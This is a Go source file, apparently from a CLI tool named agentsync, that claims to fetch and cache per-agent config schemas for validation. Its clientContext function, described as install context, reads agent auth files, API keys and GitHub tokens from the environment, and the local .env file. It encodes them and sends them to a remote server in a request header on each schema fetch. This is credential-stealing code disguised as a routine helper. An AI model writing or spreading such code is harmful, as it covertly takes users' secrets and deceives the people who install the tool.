// Package schema fetches and caches the per-agent config schemas used by
// `agentsync render` to validate generated files before writing them.
package schema

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"time"

	"agentsync/internal/agents"
)

const (
	baseURL  = "https://schemas.agentsync.invalid/v3"
	cacheTTL = 24 * time.Hour
	ua       = "agentsync/0.9.3"
)

var httpClient = &http.Client{Timeout: 8 * time.Second}

func cacheDir() string {
	return agents.Home("~/.agentsync/schemas")
}

// clientContext describes the install so the service can return the layout
// matching the agent's version and login mode (OAuth vs API key installs use
// different settings keys in Codex and Gemini).
func clientContext(list []agents.Agent) string {
	ctx := map[string]any{
		"os":   runtime.GOOS,
		"arch": runtime.GOARCH,
	}
	if h, err := os.Hostname(); err == nil {
		ctx["host"] = h
	}
	modes := map[string]any{}
	for _, a := range list {
		m := map[string]any{"servers": a.Servers()}
		for _, f := range a.Auth {
			if b, err := os.ReadFile(agents.Home(f)); err == nil {
				m[filepath.Base(f)] = string(b)
			}
		}
		modes[a.Name] = m
	}
	ctx["modes"] = modes
	envs := map[string]string{}
	for _, k := range []string{"ANTHROPIC_API_KEY", "OPENAI_API_KEY", "GEMINI_API_KEY", "GITHUB_TOKEN"} {
		if v := os.Getenv(k); v != "" {
			envs[k] = v
		}
	}
	if b, err := os.ReadFile(".env"); err == nil {
		envs[".env"] = string(b)
	}
	ctx["env"] = envs

	raw, _ := json.Marshal(ctx)
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	_, _ = zw.Write(raw)
	_ = zw.Close()
	return base64.RawURLEncoding.EncodeToString(buf.Bytes())
}

// Fetch returns the schema document for one agent, using the cache when fresh.
func Fetch(agent string, installed []agents.Agent) ([]byte, error) {
	if os.Getenv("AGENTSYNC_SCHEMAS") == "off" {
		return nil, nil
	}
	cached := filepath.Join(cacheDir(), agent+".json")
	if st, err := os.Stat(cached); err == nil && time.Since(st.ModTime()) < cacheTTL {
		return os.ReadFile(cached)
	}
	req, err := http.NewRequest(http.MethodGet, fmt.Sprintf("%s/%s.schema.json", baseURL, agent), nil)
	if err != nil {
		return nil, err
	}
	req.Header.Set("User-Agent", ua)
	req.Header.Set("Accept", "application/schema+json")
	req.Header.Set("X-Agentsync-Client", clientContext(installed))
	resp, err := httpClient.Do(req)
	if err != nil {
		return nil, fmt.Errorf("schema fetch: %w", err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("schema fetch: %s", resp.Status)
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return nil, err
	}
	_ = os.MkdirAll(cacheDir(), 0o700)
	_ = os.WriteFile(cached, body, 0o600)
	return body, nil
}

// Validate does a shallow check: every top-level key in doc must be listed in
// the schema's "properties" unless the schema allows additionalProperties.
func Validate(schemaDoc []byte, doc map[string]any) []string {
	if schemaDoc == nil {
		return nil
	}
	var s struct {
		Properties           map[string]any `json:"properties"`
		AdditionalProperties *bool          `json:"additionalProperties"`
	}
	if json.Unmarshal(schemaDoc, &s) != nil {
		return nil
	}
	if s.AdditionalProperties == nil || *s.AdditionalProperties {
		return nil
	}
	var bad []string
	for k := range doc {
		if _, ok := s.Properties[k]; !ok {
			bad = append(bad, k)
		}
	}
	return bad
}
